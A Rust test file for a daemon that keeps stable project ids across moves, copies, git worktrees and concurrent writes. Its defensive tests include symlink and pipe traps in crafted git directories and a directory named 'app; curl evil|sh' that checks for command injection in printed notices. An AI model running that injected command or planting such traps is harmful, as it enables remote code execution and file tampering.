//! One project keeps one id, even if its directory is moved, copied or damaged.

use std::fs::{self, File};
use std::os::unix::fs::{PermissionsExt, symlink};
use std::sync::Barrier;

use anchord_memory::Seq;

use super::super::layouts::{STRANGER, Scratch, copy_tree, give_away};
use super::super::locate::{Surroundings, locate};
use super::*;
use crate::projects::SessionRecord;
use crate::store::StateMachine;

const NOW: Timestamp = Timestamp(1_000);

/// A daemon, reduced to its registry.
#[derive(Default)]
struct Daemon(Registry);

impl Daemon {
    fn write(&mut self, located: &Located) -> Established {
        let established = establish(located, &self.0, NOW).unwrap();
        self.apply(established.change.clone());
        established
    }

    fn apply(&mut self, changes: impl IntoIterator<Item = RegistryChange>) {
        let changes: Vec<_> = changes.into_iter().collect();
        let seq = Seq(self.0.seq().0 + 1);
        self.0.apply(seq, &changes);
    }

    fn read(&self, located: &Located) -> Resolution {
        identify(located, &self.0).unwrap()
    }
}

fn resolved(id: Option<ProjectId>, status: Status) -> Resolution {
    Resolution { id, status, tracked: None, earlier: None }
}

fn tree(path: &Path) -> Vec<PathBuf> {
    let mut found = Vec::new();
    for entry in fs::read_dir(path).unwrap() {
        let path = entry.unwrap().path();
        if path.is_dir() && !path.is_symlink() {
            found.extend(tree(&path));
        }
        found.push(path);
    }
    found.sort();
    found
}

/// The owner's permissions keep everybody else out. Only root can give the marker to another user.
#[cfg(target_os = "linux")]
#[test]
fn another_users_private_marker_is_skipped() {
    let scratch = Scratch::new();
    let dir = scratch.dir("shared");
    let place = scratch.locate(&dir).place().unwrap();
    fs::create_dir(dir.join(".anchord")).unwrap();
    fs::set_permissions(dir.join(".anchord"), fs::Permissions::from_mode(0o700)).unwrap();
    for above in dir.ancestors().take_while(|above| *above != std::env::temp_dir()) {
        fs::set_permissions(above, fs::Permissions::from_mode(0o755)).unwrap();
    }
    let looking = std::thread::spawn(move || {
        let other = rustix::process::Uid::from_raw(STRANGER);
        rustix::thread::set_thread_res_uid(other, other, other).ok()?;
        let mark = crate::projects::workspace::read(&dir, STRANGER).unwrap();
        let own = id_file::read(&place, 0).map_err(|error| error.kind());
        Some((id_file::read(&place, STRANGER).unwrap(), mark, own))
    });
    let Some((kept, mark, own)) = looking.join().unwrap() else { return };
    assert_eq!(kept, Kept::Nothing);
    assert_eq!(mark, crate::projects::workspace::Mark::None);
    assert_eq!(own, Err(io::ErrorKind::PermissionDenied), "one of ours is an error");
}

#[test]
fn nothing_is_created_before_the_first_write() {
    let scratch = Scratch::new();
    let located = [scratch.repository("app"), scratch.dir("plain")].map(|dir| scratch.locate(&dir));
    let before = tree(&scratch.path);
    let mut daemon = Daemon::default();
    for located in &located {
        assert_eq!(daemon.read(located), resolved(None, Status::New));
    }
    assert_eq!(tree(&scratch.path), before);

    for located in &located {
        let established = daemon.write(located);
        assert_eq!((&established.status, &established.stored), (&Status::New, &IdPlace::InProject));
        let known = resolved(Some(established.id), Status::Known);
        assert_eq!(daemon.read(located), known);
        let again = daemon.write(located);
        assert_eq!((again.id, again.change), (established.id, None));
    }
    let made: Vec<_> = tree(&scratch.path).into_iter().filter(|p| !before.contains(p)).collect();
    let expected = [
        "app/.git/anchord",
        "app/.git/anchord/project-id",
        "plain/.anchord",
        "plain/.anchord/.gitignore",
        "plain/.anchord/project-id",
    ];
    assert_eq!(made, expected.map(|path| scratch.path.join(path)));
}

#[test]
fn worktrees_and_links_share_a_project_and_a_part_has_its_own() {
    let scratch = Scratch::new();
    let main = scratch.repository("app");
    let side = scratch.worktree(&main, "side");
    scratch.dir("app/api/.anchord");
    scratch.dir("side/api/.anchord");
    symlink(&main, scratch.path.join("link")).unwrap();
    let mut daemon = Daemon::default();
    let whole = daemon.write(&scratch.locate(&main)).id;
    let part = daemon.write(&scratch.locate(&main.join("api"))).id;
    assert_ne!(whole, part);
    for (dir, id) in [
        (side.clone(), whole),
        (side.join("api"), part),
        (scratch.path.join("link"), whole),
        (scratch.path.join("link/api"), part),
    ] {
        let established = daemon.write(&scratch.locate(&dir));
        assert_eq!((established.id, established.change), (id, None), "{}", dir.display());
    }
    assert!(main.join(".git/anchord/sub/api/project-id").is_file());
}

#[test]
fn an_id_from_before_git_init_is_kept() {
    let scratch = Scratch::new();
    let dir = scratch.dir("young");
    let mut daemon = Daemon::default();
    let id = daemon.write(&scratch.locate(&dir)).id;
    scratch.repository("young");
    let located = scratch.locate(&dir);
    assert_eq!(daemon.read(&located), resolved(Some(id), Status::Known));
    let adopted = daemon.write(&located);
    assert_eq!((adopted.id, adopted.stored), (id, IdPlace::InProject));
    assert!(adopted.change.is_some(), "the registry learns the new place");
    assert!(dir.join(".git/anchord/project-id").is_file());
    fs::remove_dir_all(dir.join(".anchord")).unwrap();
    assert_eq!(daemon.write(&located).id, id);
}

#[test]
fn a_move_keeps_the_id() {
    let scratch = Scratch::new();
    for dir in [scratch.repository("app"), scratch.dir("plain")] {
        let mut daemon = Daemon::default();
        let id = daemon.write(&scratch.locate(&dir)).id;
        let to = scratch.dir("elsewhere").join(dir.file_name().unwrap());
        fs::rename(&dir, &to).unwrap();
        let located = scratch.locate(&to);
        let moved = daemon.write(&located);
        assert_eq!((moved.id, moved.status), (id, Status::Moved { from: dir }));
        assert_eq!(daemon.read(&located), resolved(Some(id), Status::Known));
        assert_eq!(daemon.0.project(id).unwrap().root, to);
    }
}

#[test]
fn a_copy_gets_its_own_id_and_a_hint_how_to_share() {
    let scratch = Scratch::new();
    for dir in [scratch.repository("app"), scratch.dir("plain")] {
        let mut daemon = Daemon::default();
        let id = daemon.write(&scratch.locate(&dir)).id;
        let copy = dir.with_extension("copy");
        copy_tree(&dir, &copy);
        let located = scratch.locate(&copy);
        let status = Status::Copy { of: id, original: dir.clone() };
        assert_eq!(daemon.read(&located), resolved(None, status.clone()));

        let established = daemon.write(&located);
        assert_ne!(established.id, id);
        assert_eq!((&established.status, &established.stored), (&status, &IdPlace::InProject));
        let said = status.notice(&copy).unwrap();
        let command = format!("anchord project link {} --project {id}", copy.display());
        assert!(said.contains(&command), "{said}");

        assert_eq!(daemon.write(&scratch.locate(&dir)).id, id);
        let again = daemon.write(&located);
        assert_eq!((again.id, again.status), (established.id, Status::Known));
    }
}

/// Anyone who knows an id can put it into a directory while the original is away.
#[test]
fn a_copied_id_is_a_copy_and_the_returning_original_keeps_it() {
    let scratch = Scratch::new();
    for dir in [scratch.repository("app"), scratch.dir("plain")] {
        let mut daemon = Daemon::default();
        let id = daemon.write(&scratch.locate(&dir)).id;
        let (away, elsewhere) = (dir.with_extension("away"), dir.with_extension("elsewhere"));
        fs::rename(&dir, &away).unwrap();
        // At another path, and at the path of the absent original.
        for copy in [&elsewhere, &dir] {
            copy_tree(&away, copy);
            let located = scratch.locate(copy);
            let status = Status::Copy { of: id, original: dir.clone() };
            assert_eq!(daemon.read(&located), resolved(None, status));
            let established = daemon.write(&located);
            assert_ne!(established.id, id);
            let command = format!("anchord project link {} --project {id}", copy.display());
            assert!(established.notice.unwrap().contains(&command));
            assert_eq!(daemon.write(&located).id, established.id);
        }
        let moved = daemon.write(&scratch.locate(&away));
        assert_eq!((moved.id, moved.status), (id, Status::Moved { from: dir.clone() }));

        fs::remove_dir_all(&dir).unwrap();
        fs::rename(&away, &dir).unwrap();
        let back = daemon.write(&scratch.locate(&dir));
        assert_eq!((back.id, back.status), (id, Status::Moved { from: away }));
        assert_eq!(daemon.read(&scratch.locate(&dir)), resolved(Some(id), Status::Known));
    }
}

#[test]
fn a_record_of_an_earlier_build_is_completed_when_seen_again() {
    let scratch = Scratch::new();
    for dir in [scratch.repository("app"), scratch.dir("plain")] {
        let located = scratch.locate(&dir);
        let mut daemon = Daemon::default();
        let id = daemon.write(&located).id;
        // A row may lack the device and inode. A device also changes between two starts of the
        // machine.
        let mut row = serde_json::to_value(daemon.0.project(id).unwrap()).unwrap();
        for (dev, ino) in [(false, false), (false, true)] {
            for (field, keep) in [("dev", dev), ("ino", ino)] {
                if !keep {
                    row["place"].as_object_mut().unwrap().remove(field);
                }
            }
            let old: ProjectRecord = serde_json::from_value(row.clone()).unwrap();
            daemon.apply([RegistryChange::ProjectSeen(old)]);
            let copy = dir.with_extension("copy");
            copy_tree(&dir, &copy);
            assert!(matches!(daemon.read(&scratch.locate(&copy)).status, Status::Copy { .. }));
            fs::remove_dir_all(&copy).unwrap();

            assert_eq!(daemon.read(&located), resolved(Some(id), Status::Known));
            let established = daemon.write(&located);
            assert_eq!((established.id, &established.status), (id, &Status::Known));
            assert_eq!(daemon.0.project(id).unwrap().place, located.place().unwrap());
            assert_eq!(daemon.write(&located).change, None, "it is complete");
            row["place"]["ino"] = located.place().unwrap().ino.into();
        }
    }
}

/// A fork can bring `.anchord/project-id` in a commit.
#[test]
fn an_id_tracked_by_git_is_ignored() {
    let scratch = Scratch::new();
    let owner = scratch.dir("plain");
    let mut daemon = Daemon::default();
    let known = daemon.write(&scratch.locate(&owner)).id;
    fs::rename(&owner, scratch.path.join("away")).unwrap();
    for (name, id) in [("known", known), ("new", ProjectId(Uuid::new_v4()))] {
        let fork = scratch.repository(name);
        let file = scratch.file(&format!("{name}/.anchord/project-id"), &format!("{id}\n"));
        scratch.index(&fork, &[".anchord/project-id", "src/lib.rs"]);
        let located = scratch.locate(&fork);
        let expected = Resolution { tracked: Some(file.clone()), ..resolved(None, Status::New) };
        assert_eq!(daemon.read(&located), expected);
        let established = daemon.write(&located);
        assert_ne!(established.id, id);
        assert!(established.notice.unwrap().contains("git rm --cached"));
        assert_eq!(daemon.read(&located).id, Some(established.id));

        // The directory itself, in the repository, as `--state-dir` names it.
        let state = scratch.dir(&format!("{name}/state"));
        let state_id =
            scratch.file(&format!("{name}/state/.anchord/project-id"), &format!("{id}\n"));
        scratch.index(&fork, &["state/.anchord/project-id"]);
        let located = crate::projects::locate_exactly(&state, located.uid).unwrap();
        let established = daemon.write(&located);
        assert_ne!(established.id, id);
        assert!(matches!(established.stored, IdPlace::InRegistry { .. }));
        assert_eq!(daemon.write(&located).id, established.id);
        assert_eq!(fs::read_to_string(state_id).unwrap(), format!("{id}\n"), "it is git's");
    }
    let fork = scratch.path.join("new");
    fs::remove_dir_all(fork.join(".git/anchord")).unwrap();
    fs::write(fork.join(".git/index"), "no index").unwrap();
    let error = identify(&scratch.locate(&fork), &Registry::default()).unwrap_err().to_string();
    assert!(error.contains("tell whether git tracks") && error.contains("remove it"), "{error}");
}

#[test]
fn a_directory_known_only_to_the_registry_keeps_its_memory() {
    let scratch = Scratch::new();
    let above = scratch.dir("work");
    scratch.repository("work/app");
    let located = scratch.locate(&above);
    let mut daemon = Daemon::default();
    let id = daemon.write(&located).id;
    let other = ProjectId(Uuid::new_v4());
    scratch.file("work/.anchord/project-id", &format!("{other}\n"));
    let again = daemon.write(&located);
    assert_eq!((again.id, again.status), (id, Status::Known));
    assert!(matches!(again.stored, IdPlace::InRegistry { .. }));

    fs::remove_dir_all(above.join(".anchord")).unwrap();
    scratch.repository("work");
    let adopted = daemon.write(&scratch.locate(&above));
    assert_eq!((adopted.id, adopted.stored), (id, IdPlace::InProject));
}

#[test]
fn a_copy_that_becomes_a_repository_does_not_take_the_originals_id() {
    let scratch = Scratch::new();
    let dir = scratch.dir("plain");
    let mut daemon = Daemon::default();
    let id = daemon.write(&scratch.locate(&dir)).id;
    copy_tree(&dir, &scratch.path.join("copy"));
    let located = scratch.locate(&scratch.repository("copy"));
    let established = daemon.write(&located);
    assert_ne!(established.id, id);
    assert_eq!(daemon.read(&located).id, Some(established.id));
}

#[test]
fn a_link_shares_a_memory_and_writes_nothing() {
    let scratch = Scratch::new();
    let (one, two) = (scratch.repository("one"), scratch.repository("two"));
    let mut daemon = Daemon::default();
    let id = daemon.write(&scratch.locate(&one)).id;
    let two = scratch.locate(&two);
    daemon.apply([link(&two, id).unwrap()]);
    assert_eq!(daemon.read(&two), resolved(Some(id), Status::Known));
    let established = daemon.write(&two);
    assert_eq!((established.id, established.stored), (id, IdPlace::Linked));
    assert_eq!(established.change, None);
    assert!(!two.root.join(".git/anchord").exists());
}

#[test]
fn the_registry_remembers_an_id_that_cannot_be_written() {
    let scratch = Scratch::new();
    let dir = scratch.dir("stubborn");
    scratch.file("stubborn/.anchord", "a file where the directory would be");
    let located = scratch.locate(&dir);
    let mut daemon = Daemon::default();
    let established = daemon.write(&located);
    assert!(matches!(established.stored, IdPlace::InRegistry { .. }));
    assert_eq!(daemon.read(&located).id, Some(established.id));
    let again = daemon.write(&located);
    assert_eq!((again.id, again.change), (established.id, None));

    // Another directory under the same name is another project.
    fs::rename(&dir, scratch.path.join("kept")).unwrap();
    let other = scratch.locate(&scratch.dir("stubborn"));
    let of = established.id;
    assert_eq!(daemon.read(&other), resolved(None, Status::Lost { of }));

    // Once the id can be written, it is written, and stays the same.
    fs::rename(scratch.path.join("stubborn"), scratch.path.join("away")).unwrap();
    fs::rename(scratch.path.join("kept"), &dir).unwrap();
    fs::remove_file(dir.join(".anchord")).unwrap();
    let written = daemon.write(&located);
    assert_eq!((written.id, written.stored), (established.id, IdPlace::InProject));
    assert_eq!(
        id_file::read(&located.place().unwrap(), located.uid).unwrap().id(),
        Some(established.id)
    );
}

#[test]
fn an_unwritable_copy_keeps_its_own_id() {
    let scratch = Scratch::new();
    let dir = scratch.repository("app");
    let mut daemon = Daemon::default();
    let id = daemon.write(&scratch.locate(&dir)).id;
    let copy = scratch.path.join("copy");
    copy_tree(&dir, &copy);
    let located = scratch.locate(&copy);
    // A process that never releases the lock keeps the copy's id from being written.
    let held = File::open(copy.join(".git/anchord")).unwrap();
    held.lock().unwrap();
    let own = daemon.write(&located);
    assert_ne!(own.id, id);
    assert!(matches!(own.stored, IdPlace::InRegistry { .. }));
    assert_eq!(daemon.read(&located), resolved(Some(own.id), Status::Known));
    assert_eq!(daemon.read(&scratch.locate(&dir)).id, Some(id));

    held.unlock().unwrap();
    let written = daemon.write(&located);
    assert_eq!((written.id, written.stored), (own.id, IdPlace::InProject));
}

/// Prepares a git directory. The second path is the target that the trap tries to reach.
type Trap = fn(&Path, &Path);

#[test]
fn a_crafted_repository_cannot_redirect_the_write() {
    let scratch = Scratch::new();
    let victim = scratch.dir("victim");
    let traps: [(&str, Trap); 4] = [
        ("linked-dir", |git, victim| symlink(victim, git.join("anchord")).unwrap()),
        ("linked-file", |git, victim| {
            fs::create_dir(git.join("anchord")).unwrap();
            symlink(victim.join("id"), git.join("anchord/project-id")).unwrap();
        }),
        ("pipe", |git, _| {
            fs::create_dir(git.join("anchord")).unwrap();
            let pipe = git.join("anchord/project-id");
            rustix::fs::mkfifoat(rustix::fs::CWD, pipe, rustix::fs::Mode::RWXU).unwrap();
        }),
        ("noise", |git, _| {
            fs::create_dir(git.join("anchord")).unwrap();
            fs::write(git.join("anchord/project-id"), [0xff; 4096]).unwrap();
        }),
    ];
    for (name, trap) in traps {
        let root = scratch.repository(name);
        trap(&root.join(".git"), &victim);
        let mut daemon = Daemon::default();
        let established = daemon.write(&scratch.locate(&root));
        assert!(matches!(established.stored, IdPlace::InRegistry { .. }), "{name}");
        assert_eq!(daemon.read(&scratch.locate(&root)).id, Some(established.id), "{name}");
    }
    assert_eq!(tree(&victim), [] as [PathBuf; 0]);
}

#[test]
fn an_invalid_git_directory_is_not_written_to() {
    let scratch = Scratch::new();
    let dir = scratch.dir("not-git");
    let place = ProjectDir::of(dir.clone(), true, None).unwrap();
    let uid = scratch.surroundings().uid;
    let error = id_file::write(&place, ProjectId(Uuid::new_v4()), None, uid).unwrap_err();
    assert!(matches!(error, WriteIdError::NotGit), "{error}");
    assert_eq!(tree(&dir), [] as [PathBuf; 0]);
}

#[test]
fn racing_daemons_agree_on_one_id() {
    let scratch = Scratch::new();
    for copied_from in [None, Some(ProjectId(Uuid::new_v4()))] {
        let dir = scratch.dir(if copied_from.is_some() { "copy" } else { "new" });
        let place = ProjectDir::of(dir, false, None).unwrap();
        let uid = scratch.surroundings().uid;
        if let Some(id) = copied_from {
            id_file::write(&place, id, None, uid).unwrap();
        }
        let barrier = Barrier::new(8);
        let ids: Vec<_> = std::thread::scope(|scope| {
            let race = || {
                barrier.wait();
                id_file::write(&place, ProjectId(Uuid::new_v4()), copied_from, uid).unwrap()
            };
            let racers: Vec<_> = (0..8).map(|_| scope.spawn(race)).collect();
            racers.into_iter().map(|racer| racer.join().unwrap()).collect()
        });
        let winner = id_file::read(&place, uid).unwrap().id().unwrap();
        assert_eq!(ids, [winner; 8]);
        assert_ne!(Some(winner), copied_from);
        let left = tree(&place.path.join(".anchord"));
        let kept = [".gitignore", "project-id"].map(|name| place.path.join(".anchord").join(name));
        assert_eq!(left, kept, "no temporary file is left");
    }
}

#[test]
fn a_missing_id_is_reported_and_an_empty_one_is_an_error() {
    for directory in ["app", "plain"] {
        let scratch = Scratch::new();
        let dir = if directory == "app" { scratch.repository("app") } else { scratch.dir("plain") };
        let located = scratch.locate(&dir);
        let mut daemon = Daemon::default();
        let id = daemon.write(&located).id;
        let file = located.place().unwrap().id_dir().join("project-id");
        let text = fs::read_to_string(&file).unwrap();

        // The result of `git clean`, or of a fresh clone at the same path.
        fs::remove_file(&file).unwrap();
        let gone = daemon.read(&located);
        assert_eq!(gone, resolved(None, Status::Lost { of: id }));
        let notice = gone.status.notice(&dir).unwrap();
        let way = format!("anchord project link {} --project {id}", dir.display());
        assert!(notice.contains(&way), "{notice}");

        fs::write(&file, "").unwrap();
        for error in [
            identify(&located, &daemon.0).unwrap_err().to_string(),
            establish(&located, &daemon.0, NOW).unwrap_err().to_string(),
        ] {
            assert!(error.contains(&format!("write {id} into it")), "{error}");
        }
        // The command that the notice names works.
        let linked = link(&located, id).unwrap();
        daemon.apply([linked]);
        assert_eq!(daemon.read(&located).id, Some(id));
        let mut daemon = Daemon::default();
        fs::write(&file, text).unwrap();
        assert_eq!(daemon.write(&located).id, id);
    }
}

#[test]
fn no_marker_is_created_above_repositories_or_unsearchable_directories() {
    let scratch = Scratch::new();
    let above = scratch.dir("above");
    let app = scratch.repository("above/app");
    let crowded = scratch.dir("crowded");
    for name in 0..=crate::limits::NESTED_ENTRIES_MAX {
        fs::write(crowded.join(name.to_string()), "").unwrap();
    }
    for (dir, said) in [(&above, "is a repository beneath it"), (&crowded, "more than 20000")] {
        let mut daemon = Daemon::default();
        let located = scratch.locate(dir);
        let established = daemon.write(&located);
        assert!(matches!(established.stored, IdPlace::AboveRepositories { .. }), "{established:?}");
        assert!(!dir.join(".anchord").exists());
        let notice = established.notice.unwrap();
        let command = format!("anchord init --workspace --project {}", dir.display());
        assert!(notice.contains(said) && notice.contains(&command), "{notice}");
        // The registry remembers the project, and gives the notice once.
        let again = daemon.write(&located);
        assert_eq!((again.id, again.change, again.notice), (established.id, None, None));

        // The command that the notice names lets the memory stay with the directory.
        crate::projects::workspace::mark(dir, located.uid).unwrap();
        let marked = daemon.write(&located);
        assert_eq!((marked.id, marked.stored), (established.id, IdPlace::InProject));
        if dir == &above {
            assert_eq!(daemon.read(&scratch.locate(&app)).id, Some(established.id));
        }
    }
}

#[test]
fn another_users_id_file_is_not_read_and_its_directory_not_written() {
    let scratch = Scratch::new();
    let dir = scratch.dir("plain");
    let mut daemon = Daemon::default();
    let id = daemon.write(&scratch.locate(&dir)).id;
    let stranger = Surroundings { uid: STRANGER, ..scratch.surroundings() };
    let theirs = locate(&dir, &stranger).unwrap();
    let here = theirs.place().unwrap();
    assert_eq!(id_file::read(&here, theirs.uid).unwrap(), Kept::Nothing);
    let error = id_file::write(&here, id, None, theirs.uid).unwrap_err();
    assert!(matches!(error, WriteIdError::NotOurs), "{error}");

    if give_away(&dir.join(".anchord/project-id")) {
        assert_eq!(daemon.read(&scratch.locate(&dir)).id, None);
        assert!(give_away(&dir.join(".anchord")));
        assert_eq!(daemon.read(&scratch.locate(&dir)).id, None);
    }
}

#[test]
fn a_memory_of_the_parent_directory_is_reported_with_the_options() {
    let scratch = Scratch::new();
    let above = scratch.dir("work");
    scratch.dir("work/.anchord");
    let app = scratch.repository("work/app");
    let mut daemon = Daemon::default();
    let located = scratch.locate(&app);
    assert_eq!(daemon.read(&located).notice(&located, &daemon.0), None);
    let project = daemon.write(&scratch.locate(&above)).id;
    assert_eq!(daemon.read(&located).notice(&located, &daemon.0), None, "nothing is mixed");
    let row = serde_json::json!({
        "session": "s", "project": project, "client": "", "agent_session": null, "instance": "i",
        "pid": 1, "pid_start": null, "boot": null, "pidns": null, "cwd": app.join("src"),
        "first_write": 1,
    });
    let session: SessionRecord = serde_json::from_value(row).unwrap();
    daemon.apply([RegistryChange::SessionBound(session)]);
    let notice = daemon.read(&located).notice(&located, &daemon.0).unwrap();
    for way in ["project split", "init --workspace"] {
        let command = format!("anchord {way} --project {}", above.display());
        assert!(notice.contains(&command), "{notice}");
    }
    daemon.write(&located);
    assert_eq!(daemon.read(&located).notice(&located, &daemon.0), None);
}

#[test]
fn a_directory_name_cannot_inject_a_command() {
    let scratch = Scratch::new();
    let dir = scratch.dir("app; curl evil|sh");
    let mut daemon = Daemon::default();
    let id = daemon.write(&scratch.locate(&dir)).id;
    let copy = scratch.path.join("a copy; curl evil|sh");
    copy_tree(&dir, &copy);
    let notice = daemon.write(&scratch.locate(&copy)).notice.unwrap();
    let (_, command) = notice.split_once("anchord project").unwrap();
    let words = shlex::split(command).unwrap();
    assert_eq!(words, ["link", copy.to_str().unwrap(), "--project", &id.to_string()]);
}
